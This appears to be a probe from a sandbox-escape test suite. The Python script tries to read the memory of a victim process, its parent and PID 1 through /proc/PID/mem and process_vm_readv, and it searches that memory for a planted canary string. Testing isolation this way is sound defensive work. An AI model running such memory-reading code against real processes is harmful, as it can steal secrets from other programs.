"""Reads the memory of other processes through process_vm_readv and /proc/PID/mem."""

import contextlib
import ctypes
import os
import re

from attacker import got, host, show, syscall, tried

CALLS = ("process_vm_readv",)
UNPROTECTED = "escapes"


def _regions(pid):
    with open(f"/proc/{pid}/maps", encoding="utf-8") as maps:
        for line in maps:
            found = re.match(r"(\w+)-(\w+) rw.* (\[heap\]|0) ?", line)
            if found or "rw-p 00000000 00:00" in line:
                start, end = (int(text, 16) for text in line.split()[0].split("-"))
                yield start, min(end - start, 4 << 20)


def _search(data):
    for found in re.finditer(rb"canary[0-9a-f]{32}", data):
        show(found[0])


def _read(pid):
    for start, size in _regions(pid):
        with contextlib.suppress(OSError), open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
            memory.seek(start)
            _search(memory.read(size))
        buffer = ctypes.create_string_buffer(size)
        ours = (ctypes.c_uint64 * 2)(ctypes.addressof(buffer), size)
        theirs = (ctypes.c_uint64 * 2)(start, size)
        if syscall("process_vm_readv", pid, ours, 1, theirs, 1, 0)[0] > 0:
            _search(buffer.raw)
            if pid == os.getppid():
                got("read its parent's memory")


tried(host["victim"])
for pid in {host["victim"], os.getppid(), 1} - {0}:
    with contextlib.suppress(OSError):
        _read(pid)
